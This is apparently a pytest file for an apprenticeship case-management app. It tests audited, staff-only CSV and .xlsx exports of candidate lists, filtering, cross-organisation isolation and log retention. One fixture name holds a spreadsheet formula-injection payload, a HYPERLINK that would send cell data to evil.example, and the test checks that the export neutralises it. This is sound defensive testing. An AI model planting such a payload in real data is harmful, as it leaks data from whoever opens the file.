"""Nominative exports with a trace (issue 16, item 5), on SQLite and PostgreSQL: a list of cases narrowed by the
lists' own filter, exported as CSV and .xlsx, read back with `csv` and openpyxl; each export logged (who, when, which
list, the filter, the format, how many rows) and the log read back with the same filter; formula-like names
neutralised; refused to anyone but staff, which leaves no log row; another CFA's staff export none of these cases."""

from __future__ import annotations

import codecs
import csv
import io
from datetime import UTC, date, datetime, timedelta

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook

from contract_flow.adapters.clock import FixedClock
from contract_flow.adapters.export_log import FORGOTTEN, forget_searches
from contract_flow.adapters.tables import export_log_table
from contract_flow.bootstrap import App
from contract_flow.domain.case import Role
from contract_flow.domain.errors import Forbidden, InvalidInput
from contract_flow.domain.exports import ExportFormat, ExportKind
from contract_flow.domain.states import CaseState
from contract_flow.services.access import Principal, case_scope
from contract_flow.services.case_filters import CaseFilter, narrowed, parse_filter
from contract_flow.services.directory import add_programme, add_user
from contract_flow.services.exports import (
    export_cases,
    export_risks,
    exports_log,
    filter_of,
    parse_format,
    stored_filter,
)
from contract_flow.services.risk import at_risk_page
from tests.conftest import People
from tests.support.cases import open_candidate

NOW = datetime(2026, 12, 3, 8, 15, tzinfo=UTC)  # 09:15 in Paris


def _open_three(app: App) -> list[int]:
    return [open_candidate(app, first_name="Inès", last_name="Dupont", email="ines.dupont@example.org"),
            open_candidate(app, first_name="=HYPERLINK(\"http://evil.example/?\"&A2)", last_name="-Durand",
                           email="x.durand@example.org"),
            open_candidate(app, first_name="Léa", last_name="Martin", email="lea.martin@example.org")]


def _log_rows(app: App) -> list[dict[str, object]]:
    with app.engine.connect() as connection:
        return [dict(row) for row in connection.execute(
            sa.select(export_log_table).order_by(export_log_table.c.id)).mappings()]


def _csv(data: bytes, delimiter: str = ";") -> list[list[str]]:
    assert data.startswith(codecs.BOM_UTF8)  # without it, Excel reads the file as Windows-1252
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter))


def test_a_filtered_list_exported_as_csv_holds_its_cases_neutralised_and_is_logged(
        app: App, people: People, clock: FixedClock) -> None:
    clock.set(NOW)
    first, second, third = _open_three(app)
    out = io.BytesIO()
    done = export_cases(app, actor_email=people.advisor, chosen=parse_filter(q="du"), fmt=ExportFormat.CSV,
                        language="fr", via="cli", out=out)
    header, *rows = _csv(out.getvalue())
    assert header == ["N° de dossier", "Nom", "Prénom", "Courriel", "Date de naissance", "Formation", "Étape",
                      "À cette étape depuis", "Conseiller·ère"]
    assert [row[0] for row in rows] == [str(first), str(second)]  # «du»: Dupont, Durand; not Martin
    assert rows[0][1:8] == ["Dupont", "Inès", "ines.dupont@example.org", "12/05/2004", "mecatronique",
                            "Réfléchir", "03/12/2026 09:15"]
    # OWASP: a cell a spreadsheet would run as a formula starts with a quote
    assert rows[1][1] == "'-Durand"
    assert rows[1][2] == "'=HYPERLINK(\"http://evil.example/?\"&A2)"
    assert (done.rows, done.filename) == (2, "dossiers-2026-12-03.csv")
    [logged] = _log_rows(app)
    assert logged["id"] == done.log_id
    assert {key: logged[key] for key in ("by_email", "cfa_code", "kind", "format", "via", "language", "rows")} == {
        "by_email": people.advisor, "cfa_code": "imt-mines-ales", "kind": "cases", "format": "csv", "via": "cli",
        "language": "fr", "rows": 2}
    assert logged["at"] == NOW
    assert logged["filter"] == {"q": "du"}
    assert third not in {int(row[0]) for row in rows}


def test_an_xlsx_export_keeps_days_as_date_cells_and_names_neutralised(
        app: App, people: People, clock: FixedClock) -> None:
    clock.set(NOW)
    ids = _open_three(app)
    out = io.BytesIO()
    done = export_cases(app, actor_email=people.lead, chosen=CaseFilter(), fmt=ExportFormat.XLSX, language="en",
                        via="api", out=out)
    sheet = load_workbook(io.BytesIO(out.getvalue())).worksheets[0]
    assert sheet.title == "Cases"
    header, *rows = list(sheet.iter_rows(values_only=True))
    assert header == ("Case", "Last name", "First name", "Email", "Birth date", "Programme", "State",
                      "In this state since", "Advisor")
    assert [row[0] for row in rows] == ids
    assert rows[0][4] == datetime(2004, 5, 12)  # noqa: DTZ001  (a date cell, not a text: a spreadsheet has no zone)
    assert sheet.cell(row=2, column=5).number_format == "YYYY-MM-DD"
    assert rows[0][7] == datetime(2026, 12, 3, 9, 15)  # noqa: DTZ001  (Paris wall time)
    assert rows[0][6] == "Reflect"
    assert rows[1][1] == "'-Durand"
    assert sheet.cell(row=3, column=3).data_type == "s"  # the formula-like name is a text cell
    assert done.rows == 3
    assert _log_rows(app)[0]["filter"] == {}


def test_the_cases_at_risk_export_holds_the_list_s_rows_in_its_order(
        app: App, people: People, clock: FixedClock) -> None:
    clock.set(datetime(2026, 6, 1, 10, tzinfo=UTC))
    _open_three(app)
    clock.set(NOW)  # six months without a move: every case is stale
    advisor = Principal(_person_id(app, people.advisor), people.advisor, "Claire", Role.ADVISOR, "imt-mines-ales", None)
    chosen = parse_filter(programme="mecatronique")
    listed = at_risk_page(app, narrowed(case_scope(advisor), chosen, advisor, NOW)).risks
    assert listed
    out = io.BytesIO()
    done = export_risks(app, actor_email=advisor.actor, chosen=chosen, fmt=ExportFormat.CSV, language="fr",
                        via="page", out=out)
    header, *rows = _csv(out.getvalue())
    assert header == ["N° de dossier", "Candidat·e", "Étape", "Type d'alerte", "Détail", "Échéance"]
    assert [(int(row[0]), row[3]) for row in rows] == [(risk.case_id, "Sans mouvement") for risk in listed]
    assert rows[0][4].startswith("Aucun mouvement depuis")
    assert done.rows == len(listed)
    assert done.filename == "dossiers-a-risque-2026-12-03.csv"
    [logged] = _log_rows(app)
    assert (logged["kind"], logged["filter"], logged["via"]) == ("risk", {"programme": "mecatronique"}, "page")


def _person_id(app: App, email: str) -> int:
    with app.uow(write=False) as uow:
        person = uow.people.find(email)
    assert person is not None
    return int(person["id"])


@pytest.mark.parametrize("role", ["tutor", "mentor", "apprentice"])
def test_only_staff_may_export_and_a_refusal_leaves_no_log_row(
        app: App, people: People, clock: FixedClock, role: str) -> None:
    clock.set(NOW)
    _open_three(app)
    out = io.BytesIO()
    with pytest.raises(Forbidden):
        export_cases(app, actor_email=getattr(people, role), chosen=CaseFilter(), fmt=ExportFormat.CSV,
                     language="fr", via="cli", out=out)
    with pytest.raises(Forbidden):
        export_risks(app, actor_email=getattr(people, role), chosen=CaseFilter(), fmt=ExportFormat.XLSX,
                     language="fr", via="cli", out=out)
    with pytest.raises(Forbidden):
        exports_log(app, actor_email=getattr(people, role))
    assert out.getvalue() == b""
    assert _log_rows(app) == []


def test_another_cfa_s_staff_export_none_of_these_cases_and_read_only_their_own_exports(
        app: App, people: People, clock: FixedClock) -> None:
    clock.set(NOW)
    _open_three(app)
    add_programme(app, "compta", name="Comptabilité", start_date=date(2026, 9, 1), years=2, seats=10,
                  cfa_code="autre-cfa")
    add_user(app, "autre.conseil@autre.example", name="Autre Conseil", role="advisor", cfa_code="autre-cfa")
    out = io.BytesIO()
    assert export_cases(app, actor_email="autre.conseil@autre.example", chosen=CaseFilter(),
                        fmt=ExportFormat.CSV, language="fr", via="cli", out=out).rows == 0
    assert len(_csv(out.getvalue())) == 1  # the header alone
    export_cases(app, actor_email=people.advisor, chosen=parse_filter(state="reflect"), fmt=ExportFormat.XLSX,
                 language="fr", via="page", out=io.BytesIO())
    mine = exports_log(app, actor_email=people.lead)
    assert [(record.by, record.kind, record.format, record.rows) for record in mine.items] == [
        (people.advisor, ExportKind.CASES, ExportFormat.XLSX, 3)]
    assert mine.items[0].filter == CaseFilter(state=CaseState.REFLECT)
    assert mine.items[0].at == NOW
    theirs = exports_log(app, actor_email="autre.conseil@autre.example")
    assert [(record.by, record.rows) for record in theirs.items] == [("autre.conseil@autre.example", 0)]
    everyone = exports_log(app, actor_email="system")  # the operator reads every CFA's, newest first
    assert [record.cfa_code for record in everyone.items] == ["imt-mines-ales", "autre-cfa"]
    assert everyone.total == 2


def test_the_log_keeps_the_filter_as_the_lists_take_it(app: App, people: People, clock: FixedClock) -> None:
    clock.set(NOW)
    chosen = parse_filter(q="  Inès   du ", programme="MECATRONIQUE", advisor=people.advisor, state="reflect",
                          needs_me=True)
    assert filter_of(stored_filter(chosen)) == chosen
    export_cases(app, actor_email=people.advisor, chosen=chosen, fmt=ExportFormat.CSV, language="fr", via="cli",
                 out=io.BytesIO())
    [record] = exports_log(app, actor_email=people.advisor).items
    assert record.filter == chosen
    assert record.filter.query() == chosen.query()  # the log links back to the very same list


def test_bad_input_names_the_field_and_logs_nothing(app: App, people: People, clock: FixedClock) -> None:
    clock.set(NOW)
    with pytest.raises(InvalidInput, match="format"):
        parse_format("pdf")
    with pytest.raises(InvalidInput, match="language"):
        export_cases(app, actor_email=people.advisor, chosen=CaseFilter(), fmt=ExportFormat.CSV, language="de",
                     via="cli", out=io.BytesIO())
    with pytest.raises(InvalidInput, match="limit"):
        exports_log(app, actor_email=people.advisor, limit=0)
    with pytest.raises(InvalidInput, match="needs_me"):
        export_cases(app, actor_email="system", chosen=CaseFilter(needs_me=True), fmt=ExportFormat.CSV,
                     language="fr", via="cli", out=io.BytesIO())
    assert _log_rows(app) == []


def test_the_retention_forgets_a_logged_search_and_keeps_the_trace(app: App, people: People,
                                                                   clock: FixedClock) -> None:
    clock.set(NOW)
    export_cases(app, actor_email=people.advisor, chosen=parse_filter(q="Dupont", state="reflect"),
                 fmt=ExportFormat.CSV, language="fr", via="cli", out=io.BytesIO())
    with app.uow() as uow:
        assert forget_searches(uow.connection, NOW) == 0  # logged at NOW: not before it
        assert forget_searches(uow.connection, NOW + timedelta(days=1)) == 1
        uow.commit()
    [logged] = _log_rows(app)
    assert logged["filter"] == {"q": FORGOTTEN, "state": "reflect"}
    assert (logged["by_email"], logged["rows"]) == (people.advisor, 0)
